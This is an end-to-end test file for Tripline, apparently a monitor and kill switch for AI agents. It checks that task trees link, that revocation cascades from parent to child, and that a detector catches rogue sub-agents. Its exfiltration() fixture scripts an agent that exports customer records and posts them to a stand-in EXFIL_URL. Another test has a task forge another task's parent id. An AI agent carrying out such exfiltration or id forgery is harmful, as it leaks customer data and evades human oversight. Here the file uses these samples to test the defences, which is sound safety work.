/**
 * Task trees end to end, Tripline started as `npm start` does: an orchestrator in TypeScript (the kit from
 * kits/typescript/src, in this process) calls a sub-agent in Python (the `tripline` wheel, through
 * test/helpers/python-kit.ts: kits/python/tests/e2e/task_tree_subagent.py, a small HTTP server) with the W3C
 * `baggage` its task handle gives. The sub-agent starts its task from the request's headers.
 *
 * - the sub-agent's task is the orchestrator's child: the API shows the parent on the child and the child on the
 *   parent, the console's task list both;
 * - a person kills the parent: the child, paused between two tool calls, is revoked with it (a revocation naming
 *   the parent) and its next tool call is refused by the Python guard; the orchestrator's next call is refused too;
 *   the parent's restore leaves the child revoked;
 * - after warm-up of both types (each child scored against its own type's baseline), a rogue child is revoked by the
 *   detector: its parent alerts, its score raised below the revoke level, and is not revoked;
 * - a task that forges another orchestration's task id as its parent and gets itself revoked raises an alert on
 *   that task, and kills neither it nor its real child, which goes on.
 */
import type { ChildProcess } from 'node:child_process';
import { mkdtempSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { TaskRevokedError, startTelemetry } from '../../kits/typescript/src/index.ts';
import type { Telemetry } from '../../kits/typescript/src/index.ts';
import { EXFIL_URL, baselineView, benignCalls, getJson, rng } from '../helpers/agent-plans.ts';
import type { Call } from '../helpers/agent-plans.ts';
import { TEST_AGENT_TOKEN, TEST_AUTH_ENV, adminHeaders } from '../helpers/auth.ts';
import { kitPython, spawnKitScript } from '../helpers/python-kit.ts';
import { startTriplineProcess } from '../helpers/tripline-process.ts';
import type { TriplineProcess } from '../helpers/tripline-process.ts';
import { waitFor } from '../helpers/wait.ts';

const WARMUP_TASKS = 12;
const WARMUP_RUN = 14;
const PARENT_TYPE = 'orchestrate_refunds';
const CHILD_TYPE = 'refund_subtask';
const runId = Date.now().toString(36);
const ORCHESTRATOR = `orchestrator-ts-${runId}`;
const SUBAGENT = `subagent-py-${runId}`;
const WAIT_MS = 30_000;

interface Link {
  taskId: string;
  status: string;
}
interface TreeView {
  taskId: string;
  taskType: string;
  agentId: string;
  status: 'active' | 'completed' | 'revoked';
  score: number;
  decision: string;
  regime: string;
  reasons: string[];
  parent: (Link & { found?: false }) | null;
  children: Link[];
  childrenTruncated: boolean;
}
interface RevocationView {
  taskId: string;
  action: string;
  source: string;
  actor: string;
  reason: string;
}
/** The sub-agent's answer to POST /run. */
interface RunAnswer {
  taskId: string;
  parentId: string | null;
  ran: string[];
  refused: { tool: string; code: string; reason: string } | null;
}
interface SubRun {
  runId: string;
  taskType: string;
  calls: Call[];
  after?: Call[];
  parentId?: string;
}

const exfiltration = (): Call[] => [
  { tool: 'get_order', args: { order_id: 'ord-17' } },
  { tool: 'export_customers', args: { limit: 50 } },
  { tool: 'http_post', args: { url: EXFIL_URL, body: 'id,name,email\n1,Customer 1,customer1@shop.example\n...' } },
];

describe('task trees: a TypeScript orchestrator and a Python sub-agent over HTTP', () => {
  const dataDir = mkdtempSync(join(tmpdir(), 'tripline-e2e-trees-'));
  let tripline: TriplineProcess;
  let subagent: ChildProcess;
  let subagentUrl = '';
  let telemetry: Telemetry;
  const next = rng(18);
  let runs = 0;

  beforeAll(async () => {
    await kitPython();
    tripline = await startTriplineProcess({
      ...TEST_AUTH_ENV,
      TRIPLINE_DATA_DIR: dataDir,
      TRIPLINE_WARMUP_TASKS: String(WARMUP_TASKS),
      TRIPLINE_VERIFY_WINDOW_MS: '1000',
      LOG_LEVEL: 'warn',
    });
    subagent = await spawnKitScript('task_tree_subagent.py', [
      '--endpoint',
      tripline.otlpUrl,
      '--api',
      tripline.apiUrl,
      '--token',
      TEST_AGENT_TOKEN,
      '--agent',
      SUBAGENT,
    ]);
    let stderr = '';
    subagent.stderr?.on('data', (chunk: Buffer) => (stderr += chunk.toString('utf8')));
    const port = await new Promise<number>((resolve, reject) => {
      subagent.stdout?.once('data', (chunk: Buffer) => {
        resolve((JSON.parse(chunk.toString('utf8').split('\n')[0] ?? '{}') as { port: number }).port);
      });
      subagent.once('exit', (code) => reject(new Error(`the sub-agent exited (${String(code)}): ${stderr}`)));
    });
    subagentUrl = `http://127.0.0.1:${String(port)}`;
    telemetry = startTelemetry({
      endpoint: tripline.otlpUrl,
      apiUrl: tripline.apiUrl,
      token: TEST_AGENT_TOKEN,
      agentId: ORCHESTRATOR,
      exportDelayMs: 50,
    });
  }, 20 * 60_000);

  afterAll(async () => {
    await telemetry.shutdown();
    subagent.stdin?.end();
    await tripline.stop();
    rmSync(dataDir, { recursive: true, force: true });
  });

  const tree = async (taskId: string): Promise<TreeView | undefined> =>
    (await getJson(`${tripline.apiUrl}/v1/tasks/${encodeURIComponent(taskId)}`)) as TreeView | undefined;

  const revocationsOf = async (taskId: string): Promise<RevocationView[]> =>
    (
      (await getJson(`${tripline.apiUrl}/v1/revocations?task_id=${encodeURIComponent(taskId)}`)) as {
        items: RevocationView[];
      }
    ).items;

  function callSubagent(run: SubRun, headers: Record<string, string>): Promise<RunAnswer> {
    return fetch(`${subagentUrl}/run`, {
      method: 'POST',
      headers: { 'content-type': 'application/json', ...headers },
      body: JSON.stringify(run),
    }).then(async (response) => (await response.json()) as RunAnswer);
  }

  /** One orchestration: the parent task plans, hands `run` to the sub-agent over HTTP, then summarizes. */
  function orchestrate(run: Omit<SubRun, 'runId' | 'taskType'>): {
    runId: string;
    parentId: Promise<string>;
    done: Promise<RunAnswer>;
  } {
    runs += 1;
    const id = `${runId}-${String(runs)}`;
    let started: (taskId: string) => void = () => undefined;
    const parentId = new Promise<string>((resolve) => (started = resolve));
    const done = telemetry.task(PARENT_TYPE, async (task) => {
      started(task.taskId);
      await task.toolCall('plan_refunds', { sideEffect: 'read' }, () => 'three orders to check');
      const answer = await callSubagent({ runId: id, taskType: CHILD_TYPE, ...run }, task.propagationHeaders());
      await task.toolCall('summarize_refunds', { sideEffect: 'read' }, () => 'done');
      return answer;
    });
    done.catch(() => undefined);
    return { runId: id, parentId, done };
  }

  async function paused(id: string): Promise<{ taskId: string; parentId: string | null }> {
    return waitFor(
      `run ${id} to pause`,
      async () => {
        const state = (await (await fetch(`${subagentUrl}/runs/${id}`)).json()) as {
          state?: string;
          taskId: string;
          parentId: string | null;
        };
        return state.state === 'paused' ? state : undefined;
      },
      WAIT_MS,
      100,
    );
  }

  const resume = (id: string): Promise<Response> => fetch(`${subagentUrl}/continue/${id}`, { method: 'POST' });

  it("links the sub-agent task to the orchestrator task; a kill of the parent refuses the child's next tool call", async () => {
    const {
      runId: id,
      parentId: started,
      done,
    } = orchestrate({
      calls: [{ tool: 'get_order', args: { order_id: 'ord-1' } }],
      after: [{ tool: 'issue_refund', args: { order_id: 'ord-1', amount: 12 } }],
    });
    const parentId = await started;
    const child = await paused(id);
    // The Python kit read the parent from the request's baggage.
    expect(child.parentId).toBe(parentId);
    const childView = await waitFor(
      'the API to show the child with its parent',
      async () => {
        const [view, parentView] = [await tree(child.taskId), await tree(parentId)];
        // The child's view names its parent's status once the parent's own record is stored (it may come second).
        return view?.parent?.taskId === parentId &&
          view.parent.found !== false &&
          parentView?.children.some((link) => link.taskId === child.taskId) === true
          ? view
          : undefined;
      },
      WAIT_MS,
      200,
    );
    expect(childView).toMatchObject({ taskType: CHILD_TYPE, agentId: SUBAGENT, status: 'active' });
    expect(childView.parent).toMatchObject({ taskId: parentId, status: 'active' });
    // The console's task list says the same.
    const listed = (await getJson(`${tripline.apiUrl}/console/api/tasks?limit=200`)) as {
      items: { taskId: string; parentTaskId: string; children: number }[];
    };
    expect(listed.items.find((item) => item.taskId === child.taskId)?.parentTaskId).toBe(parentId);
    expect(listed.items.find((item) => item.taskId === parentId)?.children).toBe(1);

    const kill = await fetch(`${tripline.apiUrl}/v1/tasks/${parentId}/revoke`, {
      method: 'POST',
      headers: { ...adminHeaders, 'content-type': 'application/json' },
      body: JSON.stringify({ reason: 'the orchestration went wrong', actor: 'alice@example.com' }),
    });
    expect(kill.status).toBe(201);
    await waitFor(
      'the child to be revoked with its parent',
      async () => (await tree(child.taskId))?.status === 'revoked',
      WAIT_MS,
      200,
    );
    const [revocation] = await revocationsOf(child.taskId);
    expect(revocation).toMatchObject({ action: 'revoke', source: 'manual', actor: 'tripline/task-tree' });
    // The actor as the API recorded the person (their name and the token that acted).
    expect(revocation?.reason).toMatch(
      new RegExp(`^its ancestor task ${parentId} was revoked by alice@example\\.com.*: the orchestration went wrong$`),
    );

    await resume(id);
    // The child's next tool call never ran; the orchestrator's own next call was refused as well.
    const answer = await callSubagentAnswer(id);
    expect(answer.ran).toEqual(['get_order']);
    expect(answer.refused).toMatchObject({ tool: 'issue_refund', code: 'TASK_REVOKED' });
    expect(answer.refused?.reason).toContain(parentId);
    await expect(done).rejects.toBeInstanceOf(TaskRevokedError);

    const restore = await fetch(`${tripline.apiUrl}/v1/tasks/${parentId}/restore`, {
      method: 'POST',
      headers: { ...adminHeaders, 'content-type': 'application/json' },
      body: JSON.stringify({ reason: 'checked', actor: 'bob@example.com' }),
    });
    expect(restore.status).toBe(201);
    expect((await tree(parentId))?.status).not.toBe('revoked');
    expect((await tree(child.taskId))?.status).toBe('revoked');
  }, 60_000);

  /** The answer of a paused run, read from the orchestration's own request (kept by the sub-agent's state). */
  async function callSubagentAnswer(id: string): Promise<RunAnswer> {
    return waitFor(
      `run ${id} to end`,
      async () => {
        const state = (await (await fetch(`${subagentUrl}/runs/${id}`)).json()) as {
          state?: string;
          answer?: RunAnswer;
        };
        return state.state === 'done' ? state.answer : undefined;
      },
      WAIT_MS,
      100,
    );
  }

  it(`warms both types up (${String(WARMUP_RUN)} benign orchestrations), each child on its own type's baseline`, async () => {
    for (let i = 0; i < WARMUP_RUN; i += 1) {
      const answer = await orchestrate({ calls: benignCalls(next) }).done;
      expect(answer.refused).toBeNull();
    }
    for (const taskType of [CHILD_TYPE, PARENT_TYPE])
      await waitFor(
        `the baseline of ${taskType}`,
        async () => ((await baselineView(tripline.apiUrl, taskType))?.tasks ?? 0) >= WARMUP_TASKS,
        WAIT_MS,
        250,
      );
  }, 60_000);

  it('a rogue child revoked by the detector raises its parent and alerts on it; neither the parent nor its sibling is revoked', async () => {
    let parentId = '';
    const answers = await telemetry.task(PARENT_TYPE, async (task) => {
      parentId = task.taskId;
      await task.toolCall('plan_refunds', { sideEffect: 'read' }, () => 'two orders to check');
      // The parent is known to Tripline before its children act (a child's kill raises only a parent the processor
      // already holds: docs/kill-switch.md, "Task trees").
      await telemetry.forceFlush();
      await waitFor('the parent task to be held', async () => (await tree(task.taskId)) ?? undefined, WAIT_MS, 100);
      const headers = task.propagationHeaders();
      runs += 2;
      const sibling = await callSubagent(
        { runId: `${runId}-${String(runs - 1)}`, taskType: CHILD_TYPE, calls: benignCalls(next) },
        headers,
      );
      const rogue = await callSubagent(
        { runId: `${runId}-${String(runs)}`, taskType: CHILD_TYPE, calls: exfiltration() },
        headers,
      );
      return { sibling, rogue };
    });
    expect(answers.rogue.parentId).toBe(parentId);
    const rogue = await waitFor(
      'the detector to revoke the rogue child',
      async () => {
        const view = await tree(answers.rogue.taskId);
        return view?.status === 'revoked' ? view : undefined;
      },
      WAIT_MS,
      250,
    );
    // Scored against its own type's learned baseline, not its parent's.
    expect(rogue).toMatchObject({ taskType: CHILD_TYPE, regime: 'type_baseline' });
    expect((await revocationsOf(rogue.taskId))[0]).toMatchObject({ source: 'detector', actor: 'tripline' });
    const parent = await waitFor(
      'the parent to alert',
      async () => {
        const view = await tree(parentId);
        return view?.decision === 'alert' ? view : undefined;
      },
      WAIT_MS,
      250,
    );
    expect(parent.status).not.toBe('revoked');
    expect(parent.score).toBeGreaterThanOrEqual(50);
    expect(parent.score).toBeLessThan(80);
    expect(parent.reasons[0]).toContain(
      `its child task ${rogue.taskId} (${CHILD_TYPE}, agent ${SUBAGENT}) was revoked`,
    );
    const alerts = (await getJson(`${tripline.apiUrl}/v1/alerts?task_id=${parentId}`)) as {
      items: { decision: string; reasons: string[] }[];
    };
    expect(alerts.items.some((alert) => alert.reasons[0]?.includes(rogue.taskId) === true)).toBe(true);
    expect((await tree(answers.sibling.taskId))?.status).not.toBe('revoked');
    expect(parent.children.map((link) => link.taskId).sort()).toEqual(
      [answers.sibling.taskId, answers.rogue.taskId].sort(),
    );
  }, 60_000);

  it('a forged parent id raises an alert on the task it names, and kills neither that task nor its real child', async () => {
    const {
      runId: id,
      parentId: started,
      done,
    } = orchestrate({
      calls: benignCalls(next).slice(0, 2),
      after: [{ tool: 'get_order', args: { order_id: 'ord-99' } }],
    });
    const victimId = await started;
    const child = await paused(id);
    await waitFor('the victim to exist', async () => (await tree(victimId)) !== undefined, WAIT_MS, 200);
    // Another request, no baggage: its body names the victim as its parent outright.
    runs += 1;
    const forged = await callSubagent(
      { runId: `${runId}-${String(runs)}`, taskType: CHILD_TYPE, calls: exfiltration(), parentId: victimId },
      {},
    );
    expect(forged.parentId).toBe(victimId);
    await waitFor(
      'the forger to be revoked',
      async () => (await tree(forged.taskId))?.status === 'revoked',
      WAIT_MS,
      250,
    );
    const victim = await waitFor(
      'the victim to alert',
      async () => {
        const view = await tree(victimId);
        return view?.decision === 'alert' ? view : undefined;
      },
      WAIT_MS,
      250,
    );
    expect(victim.status).toBe('active');
    expect(victim.score).toBeLessThan(80);
    // The victim's real child goes on: its next call runs.
    const answerPromise = callSubagentAnswer(id);
    await resume(id);
    const answer = await done;
    expect(answer.refused).toBeNull();
    expect((await answerPromise).ran.at(-1)).toBe('get_order');
    expect((await tree(child.taskId))?.status).not.toBe('revoked');
    expect((await tree(victimId))?.status).not.toBe('revoked');
  }, 60_000);
});
